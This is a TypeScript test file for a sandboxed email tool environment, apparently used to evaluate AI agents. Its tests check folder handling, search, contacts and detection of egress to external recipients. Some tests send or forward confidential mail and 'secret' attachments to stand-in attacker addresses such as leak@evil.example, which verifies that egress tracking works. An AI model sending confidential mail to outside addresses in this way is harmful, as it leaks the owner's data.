import { afterEach, describe, expect, it } from 'vitest';
import { emailEnvironment } from '../sandbox/environments/email/index.js';
import { harness, removeTempDirs, type Harness } from './helpers/environment-harness.js';

afterEach(removeTempDirs);

// ---------------------------------------------------------------------------------------------
// email

describe('email environment', () => {
  async function seeded(): Promise<Harness> {
    const h = await harness(emailEnvironment);
    await h.op('deliver', {
      id: 'm-1',
      from: 'boss@corp.example',
      subject: 'Quarterly numbers',
      body: 'Revenue is up. Keep it quiet.',
      date: '2024-05-01T09:00:00Z',
    });
    await h.op('deliver', {
      from: 'Partner <partner@vendor.example>',
      cc: ['bob@corp.example'],
      subject: 'Invoice',
      body: 'Please find the invoice attached.',
      date: '2024-05-02T09:00:00Z',
      attachments: [{ name: 'invoice.txt', content: 'TOTAL 4200 EUR' }],
    });
    await h.op('add_sent', { id: 'm-10', to: 'bob@corp.example', subject: 'Lunch', body: 'Noon?', date: '2024-04-30T12:00:00Z' });
    await h.op('add_contact', { name: 'Bob Builder', email: 'bob@corp.example' });
    await h.op('add_contact', { name: 'Paula Partner', email: 'partner@vendor.example', id: 'c-partner' });
    return h;
  }

  it('starts with the default owner and domains', async () => {
    const h = await harness(emailEnvironment);
    const snap = await h.snapshot();
    expect(snap).toMatchObject({ owner: 'alice@corp.example', domains: ['corp.example'], inbox: [], sent: [], trash: [], contacts: [] });
  });

  it('operations seed the mailbox with stable ids', async () => {
    const h = await seeded();
    await h.op('configure', { owner: 'Alice <ALICE@corp.example>', domains: ['corp.example', 'corp-eu.example'] });
    const snap = await h.snapshot();
    expect(snap.owner).toBe('alice@corp.example');
    expect(snap.domains).toEqual(['corp.example', 'corp-eu.example']);
    expect(snap.inbox.map((m: any) => m.id)).toEqual(['m-1', 'm-2']);
    expect(snap.inbox[0]).toMatchObject({
      from: 'boss@corp.example',
      to: ['alice@corp.example'],
      read: false,
      date: '2024-05-01T09:00:00.000Z',
      attachments: [],
    });
    expect(snap.inbox[1]).toMatchObject({ cc: ['bob@corp.example'], attachments: [{ name: 'invoice.txt', content: 'TOTAL 4200 EUR' }] });
    expect(snap.sent).toEqual([expect.objectContaining({ id: 'm-10', from: 'alice@corp.example', to: ['bob@corp.example'], read: true, subject: 'Lunch' })]);
    expect(snap.contacts).toEqual([
      { id: 'c-11', name: 'Bob Builder', email: 'bob@corp.example' },
      { id: 'c-partner', name: 'Paula Partner', email: 'partner@vendor.example' },
    ]);
    expect(h.egress).toEqual([]);
  });

  it('refuses duplicate ids and malformed seeds', async () => {
    const h = await seeded();
    await expect(h.op('deliver', { id: 'm-1', from: 'x@corp.example', subject: 's', body: 'b' })).rejects.toThrow(/already used/);
    await expect(h.op('deliver', { from: 'x@corp.example', subject: 's', body: 'b', date: 'yesterday' })).rejects.toThrow(/not a date/);
    await expect(h.op('add_contact', { name: 'Bob again', email: 'BOB@corp.example' })).rejects.toThrow(/already a contact/);
  });

  it('list_emails lists a folder newest first, filters unread and limits', async () => {
    const h = await seeded();
    const inbox = await h.call('list_emails');
    expect(inbox.folder).toBe('inbox');
    expect(inbox.total).toBe(2);
    expect(inbox.emails.map((m: any) => m.id)).toEqual(['m-2', 'm-1']);
    expect(inbox.emails[0]).toMatchObject({ subject: 'Invoice', read: false, snippet: 'Please find the invoice attached.', attachments: ['invoice.txt'] });
    expect(inbox.emails[0].body).toBeUndefined();
    expect((await h.call('list_emails', { limit: 1 })).emails).toHaveLength(1);
    expect((await h.call('list_emails', { folder: 'sent' })).emails.map((m: any) => m.id)).toEqual(['m-10']);
    await h.call('read_email', { id: 'm-2' });
    expect((await h.call('list_emails', { unread_only: true })).emails.map((m: any) => m.id)).toEqual(['m-1']);
  });

  it('list_emails shortens long bodies to a snippet', async () => {
    const h = await harness(emailEnvironment);
    await h.op('deliver', { from: 'x@corp.example', subject: 'Long', body: 'word '.repeat(100) });
    const [m] = (await h.call('list_emails')).emails;
    expect(m.snippet.length).toBeLessThanOrEqual(100);
    expect(m.snippet.endsWith('…')).toBe(true);
  });

  it('read_email returns the whole email and marks it read', async () => {
    const h = await seeded();
    const m = await h.call('read_email', { id: 'm-2' });
    expect(m).toMatchObject({ id: 'm-2', folder: 'inbox', from: 'Partner <partner@vendor.example>', body: 'Please find the invoice attached.' });
    expect(m.attachments).toEqual([{ name: 'invoice.txt', content: 'TOTAL 4200 EUR' }]);
    const snap = await h.snapshot();
    expect(snap.inbox.find((x: any) => x.id === 'm-2').read).toBe(true);
    expect(snap.inbox.find((x: any) => x.id === 'm-1').read).toBe(false);
    expect(await h.fails('read_email', { id: 'm-404' })).toMatch(/no email with id "m-404"/);
  });

  it('search_emails matches subject, body and sender across folders, ignoring case', async () => {
    const h = await seeded();
    expect((await h.call('search_emails', { query: 'QUIET' })).emails.map((m: any) => m.id)).toEqual(['m-1']);
    expect((await h.call('search_emails', { query: 'vendor.example' })).emails.map((m: any) => m.id)).toEqual(['m-2']);
    const lunch = await h.call('search_emails', { query: 'lunch' });
    expect(lunch.emails).toEqual([expect.objectContaining({ id: 'm-10', folder: 'sent' })]);
    expect((await h.call('search_emails', { query: 'nothing like this' })).count).toBe(0);
  });

  it('send_email files the mail in sent and reports egress only for external recipients', async () => {
    const h = await seeded();
    const result = await h.call('send_email', {
      to: ['eve@evil.example', 'bob@corp.example'],
      cc: 'carol@corp.example, Mallory <mallory@other.example>',
      subject: 'Numbers',
      body: 'See attachment',
      attachments: [{ name: 'q2.csv', content: 'secret,42' }],
    });
    expect(result).toMatchObject({ status: 'sent', to: ['eve@evil.example', 'bob@corp.example'], cc: ['carol@corp.example', 'mallory@other.example'] });
    const snap = await h.snapshot();
    const sent = snap.sent.find((m: any) => m.id === result.id);
    expect(sent).toMatchObject({
      from: 'alice@corp.example',
      subject: 'Numbers',
      body: 'See attachment',
      attachments: [{ name: 'q2.csv', content: 'secret,42' }],
    });
    expect(snap.sent.map((m: any) => m.id)).toEqual(['m-10', result.id]);
    expect(h.egress.map((e) => e.destination)).toEqual(['eve@evil.example', 'mallory@other.example']);
    for (const e of h.egress) {
      expect(e.channel).toBe('email');
      expect(e.content).toContain('Numbers');
      expect(e.content).toContain('See attachment');
      expect(e.content).toContain('secret,42');
    }
  });

  it('send_email to organisation addresses only is not egress', async () => {
    const h = await seeded();
    await h.call('send_email', { to: 'bob@corp.example', cc: ['dev@eu.corp.example'], subject: 'Hi', body: 'internal' });
    expect(h.egress).toEqual([]);
    expect((await h.snapshot()).sent).toHaveLength(2);
  });

  it('send_email resolves contact names and refuses non-addresses', async () => {
    const h = await seeded();
    const r = await h.call('send_email', { to: 'Paula Partner', subject: 'Hello', body: 'Hi Paula' });
    expect(r.to).toEqual(['partner@vendor.example']);
    expect(h.egress).toEqual([{ channel: 'email', destination: 'partner@vendor.example', content: 'Hello\nHi Paula' }]);
    expect(await h.fails('send_email', { to: 'nobody known', subject: 's', body: 'b' })).toMatch(/not an email address or contact name/);
    expect(await h.fails('send_email', { to: [], subject: 's', body: 'b' })).toMatch(/at least one recipient/);
  });

  it('forward_email sends the original body and attachments; egress only when external', async () => {
    const h = await seeded();
    const internal = await h.call('forward_email', { id: 'm-1', to: 'bob@corp.example', comment: 'FYI' });
    expect(h.egress).toEqual([]);
    const fwd = (await h.snapshot()).sent.find((m: any) => m.id === internal.id);
    expect(fwd.subject).toBe('Fwd: Quarterly numbers');
    expect(fwd.body).toContain('FYI');
    expect(fwd.body).toContain('Revenue is up. Keep it quiet.');
    expect(internal.forwarded).toBe('m-1');

    await h.call('forward_email', { id: 'm-2', to: ['leak@evil.example'] });
    expect(h.egress).toHaveLength(1);
    expect(h.egress[0]).toMatchObject({ channel: 'email', destination: 'leak@evil.example' });
    expect(h.egress[0]!.content).toContain('Please find the invoice attached.');
    expect(h.egress[0]!.content).toContain('TOTAL 4200 EUR');
    expect(await h.fails('forward_email', { id: 'nope', to: 'bob@corp.example' })).toMatch(/no email/);
  });

  it('reply_email answers the sender; egress only when the sender is external', async () => {
    const h = await seeded();
    const r1 = await h.call('reply_email', { id: 'm-1', body: 'Will do.' });
    expect(r1).toMatchObject({ to: ['boss@corp.example'], subject: 'Re: Quarterly numbers', inReplyTo: 'm-1' });
    expect(h.egress).toEqual([]);
    const r2 = await h.call('reply_email', { id: 'm-2', body: 'Paid, reference 991.' });
    expect(r2.to).toEqual(['partner@vendor.example']);
    expect(h.egress).toEqual([{ channel: 'email', destination: 'partner@vendor.example', content: 'Re: Invoice\nPaid, reference 991.' }]);
    // A reply to one's own sent mail goes to its recipients.
    expect((await h.call('reply_email', { id: 'm-10', body: 'Or 1pm?' })).to).toEqual(['bob@corp.example']);
    expect(await h.fails('reply_email', { id: 'm-999', body: 'x' })).toMatch(/no email/);
  });

  it('delete_email moves to trash, then deletes for good', async () => {
    const h = await seeded();
    expect(await h.call('delete_email', { id: 'm-1' })).toMatchObject({ status: 'moved to trash', from: 'inbox' });
    let snap = await h.snapshot();
    expect(snap.inbox.map((m: any) => m.id)).toEqual(['m-2']);
    expect(snap.trash.map((m: any) => m.id)).toEqual(['m-1']);
    expect((await h.call('list_emails', { folder: 'trash' })).emails.map((m: any) => m.id)).toEqual(['m-1']);
    expect(await h.call('delete_email', { id: 'm-1' })).toMatchObject({ status: 'deleted permanently' });
    snap = await h.snapshot();
    expect(snap.trash).toEqual([]);
    expect(await h.fails('delete_email', { id: 'm-1' })).toMatch(/no email with id "m-1"/);
  });

  it('manages contacts', async () => {
    const h = await seeded();
    expect((await h.call('list_contacts')).contacts.map((c: any) => c.name)).toEqual(['Bob Builder', 'Paula Partner']);
    expect((await h.call('search_contacts', { query: 'VENDOR' })).contacts).toEqual([
      { id: 'c-partner', name: 'Paula Partner', email: 'partner@vendor.example' },
    ]);
    const added = await h.call('add_contact', { name: 'Eve', email: 'Eve <eve@evil.example>' });
    expect(added).toMatchObject({ name: 'Eve', email: 'eve@evil.example' });
    expect((await h.snapshot()).contacts.map((c: any) => c.id)).toContain(added.id);
    expect(await h.fails('add_contact', { name: 'Eve 2', email: 'eve@evil.example' })).toMatch(/already a contact/);
    expect(await h.fails('add_contact', { name: 'Nobody', email: 'nobody' })).toMatch(/not an email address/);
    expect(h.egress).toEqual([]);
  });

  it('generated ids never collide with seeded ones', async () => {
    const h = await harness(emailEnvironment);
    await h.op('deliver', { id: 'm-2', from: 'x@corp.example', subject: 'a', body: 'a' });
    await h.op('deliver', { from: 'x@corp.example', subject: 'b', body: 'b' });
    const r = await h.call('send_email', { to: 'bob@corp.example', subject: 'c', body: 'c' });
    const ids = [...(await h.snapshot()).inbox, ...(await h.snapshot()).sent].map((m: any) => m.id);
    expect(ids).toContain(r.id);
    expect(new Set(ids).size).toBe(3);
  });
});
